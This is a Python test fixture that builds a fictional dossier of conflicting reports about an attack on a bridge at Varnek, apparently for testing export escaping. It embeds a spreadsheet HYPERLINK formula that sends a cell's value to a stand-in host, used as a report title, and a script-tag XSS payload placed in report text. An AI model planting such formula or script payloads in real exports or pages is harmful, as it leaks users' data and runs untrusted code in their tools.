"""A made-up dossier for the tests of exports and briefs: two sides, third parties, and texts that mean harm."""

from __future__ import annotations

import hashlib
from datetime import UTC, datetime

from counterclaim.records import (
    Accounts,
    Actor,
    Assessment,
    Bond,
    Content,
    Control,
    Credit,
    Cue,
    DatePrecision,
    Document,
    EventMention,
    Facet,
    Factuality,
    Harm,
    Incident,
    Interest,
    Known,
    Member,
    Participant,
    Party,
    Place,
    Published,
    Report,
    Source,
    Span,
    Stance,
    Standing,
    Statement,
    TimeValue,
    Toll,
    Trigger,
    Value,
    Voice,
)
from counterclaim.views.exports.dossier import Dossier

MADE = datetime(2021, 3, 6, 12, tzinfo=UTC)
ARMY, FRONT = Party("NOR", "Norvia", False), Party("RVF", "River Front", False)
COURIER, WITNESSES = Party("courier", "Harbour Courier", True), Party("witnesses", "witnesses", True)
FORMULA = '=HYPERLINK("http://bad.example/?x="&A1,"click")'
SCRIPT = "<script>alert('x')</script>"

MORNING = (
    "The Northern Army said its soldiers had seized the bridge at Varnek on Wednesday, killing 13 fighters. "
    "Lt. Gen. Orla Vey led them. The River Front denied that the bridge was lost."
)
EVENING = (
    f"Two sides claim the bridge. {SCRIPT} Witnesses said that 20 fighters had died & five children were hurt.\n\n"
    "Reporters of this paper confirmed that the Northern Army held the bridge.\x0b The mayor declined to comment."
)
LATE = "A rebel commander admitted that the bridge at Varnek had been attacked."

PLACE = Place(
    "Varnek", 61.5, 9.25, "NOR", 2, "Innlandet", "bridge", "3133880", "Europe/Oslo", "size", 60, 66
)  # fmt: skip
TIME = TimeValue("2021-03-03", None, 1, "on Wednesday")


def document(
    text: str, *, outlet: str | None, title: str | None, url: str | None, published: str | None
) -> Document:
    """A document of a text."""
    digest = hashlib.sha256(text.encode()).hexdigest()
    when = Published(published, DatePrecision.DAY, False, Known.GIVEN) if published else None
    credits = (Credit("Coastal Wire", False, Known.CREDIT, None),) if outlet == "Harbour Courier" else ()
    return Document(
        digest[:16], text, title, outlet, url, "en", when, credits, (), f"reports/{digest[:4]}.txt", "text/plain",
        digest, digest,
    )  # fmt: skip


def said(
    report: Document,
    number: int,
    *,
    source: str,
    cue: str,
    content: str,
    stance: Stance = Stance.ASSERTS,
    events: tuple[EventMention, ...] = (),
) -> Statement:
    """A statement that stands in a document, found there by its words."""
    at, end = _find(report.text, content)
    who = Source("outlet", 0, 0) if source == "outlet" else Source(source, *_find(report.text, source))
    return Statement(
        f"{report.id}-{number}", (who,), (), Cue(cue, *_find(report.text, cue)), stance,
        Content(content, at, end, (Span(at, end),)), False, number, events=events,
    )  # fmt: skip


def _find(text: str, part: str) -> tuple[int, int]:
    at = text.index(part)
    return at, at + len(part)


def attack(toll: tuple[Toll, ...] = (), *, mode: str | None = "firearms") -> EventMention:
    """Mention of the attack on the bridge."""
    return EventMention(
        "ASSAULT", mode, ("military",), Factuality.HAPPENED, 2.5, Trigger("seized", 40, 46),
        actors=(Participant("its soldiers", "NOR-MIL", 0, 4),),
        recipients=(Participant("the River Front", "RVF", 0, 4),),
        place=PLACE, time=TIME, toll=toll, control=Control("its soldiers", "NOR-MIL", "the bridge"),
    )  # fmt: skip


def reports() -> tuple[Report, Report, Report]:
    """Three reports: of the morning, of the evening, and one without date, outlet or address."""
    morning = document(
        MORNING,
        outlet="Gazette",
        title="Bridge taken",
        url="https://gazette.example/a?b=1&c={2}",
        published="2021-03-04",
    )
    evening = document(
        EVENING,
        outlet="Harbour Courier",
        title=FORMULA,
        url="https://courier.example/9",
        published="2021-03-05",
    )
    late = document(LATE, outlet=None, title=None, url=None, published=None)
    killed = (Toll(Harm.KILLED, "fighters", 13, 13, 80, 100),)
    worse = (Toll(Harm.KILLED, "fighters", 20, 20, 0, 9), Toll(Harm.WOUNDED, "children", 5, 5, 0, 9))
    return (
        Report(
            morning,
            (
                said(
                    morning, 1, source="The Northern Army", cue="said", events=(attack(killed),),
                    content="its soldiers had seized the bridge at Varnek on Wednesday, killing 13 fighters",
                ),
                said(
                    morning, 2, source="The River Front", cue="denied", content="that the bridge was lost",
                    stance=Stance.DENIES,
                ),
            ),
            (
                Actor("NOR-MIL", "Northern Army", "MIL", "NOR", "NOR", "table"),
                Actor("RVF", "River Front", "REB", "NOR", "RVF", "table"),
            ),
        ),
        Report(
            evening,
            (
                said(
                    evening, 1, source="Witnesses", cue="said that", events=(attack(worse, mode=None),),
                    content="20 fighters had died & five children were hurt",
                ),
                said(
                    evening, 2, source="outlet", cue="confirmed", stance=Stance.CONFIRMS, events=(attack(),),
                    content="that the Northern Army held the bridge",
                ),
                said(
                    evening, 3, source="The mayor", cue="declined", content="to comment", stance=Stance.SILENT
                ),
            ),
        ),
        Report(
            late,
            (
                said(
                    late, 1, source="A rebel commander", cue="admitted", stance=Stance.ADMITS, events=(attack(),),
                    content="that the bridge at Varnek had been attacked",
                ),
            ),
        ),
    )  # fmt: skip


def dossier() -> Dossier:
    """The dossier."""
    first, second, third = reports()
    army, front = (one.id for one in first.statements)
    seen, held, mayor = (one.id for one in second.statements)
    admitted = third.statements[0].id
    return Dossier(
        Incident(
            f"{army}#0", "Attack on the bridge at Varnek", "ASSAULT", PLACE, TIME,
            tuple(Member(f"{id}#0", Bond.SAME) for id in (army, seen, held, admitted)),
            tuple(report.document.id for report in (first, second, third)),
        ),
        Accounts(
            f"{army}#0", (ARMY, FRONT, COURIER, WITNESSES), _assessments(army, front, seen, held, mayor, admitted), 5
        ),
        (first, second, third),
        7,
    )  # fmt: skip


def _assessments(  # noqa: PLR0917
    army: str, front: str, seen: str, held: str, mayor: str, admitted: str
) -> tuple[Assessment, ...]:
    return (
        Assessment(
            Facet.OCCURRENCE, "", Standing.AGREED,
            (
                Value(
                    "attack", "the bridge was attacked",
                    (_voice(ARMY, army), _voice(FRONT, admitted, stance="admits")),
                ),
            ),
            "agreed_by_admission", "The party that it harms admits it.", (army, admitted),
        ),
        Assessment(
            Facet.CONTROL, "the bridge", Standing.DISPUTED,
            (
                Value(
                    "NOR", "Norvia holds it",
                    (
                        _voice(ARMY, army), _voice(FRONT, front, holds=False, stance="denies", mention=False),
                        _voice(COURIER, held, stance="confirms"),
                        _voice(WITNESSES, mayor, holds=None, stance="silent", mention=False),
                    ),
                ),
            ),
            "disputed_by_denial", "One asserts it and another denies it.", (army, front, held),
            leaning="third party against River Front", settle=("a second third party", "the hour of either claim"),
        ),
        Assessment(
            Facet.TOLL, "fighters killed", Standing.DISPUTED,
            (
                Value("000000013-13", "13", (_voice(ARMY, army),)),
                Value("000000020-20", "20", (_voice(WITNESSES, seen),)),
            ),
            "tolls_do_not_meet", "Their ranges do not meet.", (army, seen), settle=("a count by a third party",),
        ),
        Assessment(
            Facet.TOLL, "children wounded", Standing.SINGLE, (Value("5", "5", (_voice(WITNESSES, seen),)),),
            "single_origin", "One origin says so.", (seen,),
        ),
        Assessment(
            Facet.AIM, "", Standing.RETRACTED,
            (Value("road", f"to cut the road {SCRIPT}", (_voice(ARMY, army, retracted=True),)),),
            "retracted", "Its source took it back.", (army,),
        ),
        Assessment(Facet.MEANS, "", Standing.OPEN, (), "nobody_says", "Nobody says.", ()),
    )  # fmt: skip


def _voice(
    party: Party,
    statement: str,
    *,
    holds: bool | None = True,
    stance: str = "asserts",
    mention: bool = True,
    retracted: bool = False,
) -> Voice:
    return Voice(
        party.id, statement, f"{statement}#0" if mention else None, holds, f"origin of {statement}", stance,
        Interest.OWN if party is ARMY else Interest.NONE, retracted, knows=party is WITNESSES,
    )  # fmt: skip


def meeting() -> Dossier:
    """A dossier of a meeting: no place on a map, nobody harmed, nothing disputed."""
    report = document(
        "The council said it met.", outlet="Gazette", title="Council", url=None, published="2021-03"
    )
    event = EventMention(
        "CONSULT", None, (), Factuality.HAPPENED, 2.0, Trigger("met", 20, 23),
        actors=(Participant("The council", None, 0, 11),),
    )  # fmt: skip
    one = said(report, 1, source="The council", cue="said", content="it met", events=(event,))
    mention = f"{one.id}#0"
    return Dossier(
        Incident(mention, "Meeting of the council", "CONSULT", None, None, (Member(mention, Bond.SAME),), (report.id,)),
        Accounts(
            mention,
            (Party("council", "the council", False),),
            (
                Assessment(
                    Facet.OCCURRENCE, "", Standing.SINGLE,
                    (Value("met", "the council met", (
                        Voice("council", one.id, mention, True, "origin", "asserts", Interest.NONE),
                    )),),
                    "single_origin", "One origin says so.", (one.id,),
                ),
            ),
            1,
        ),
        (Report(report, (one,)),),
        8,
    )  # fmt: skip
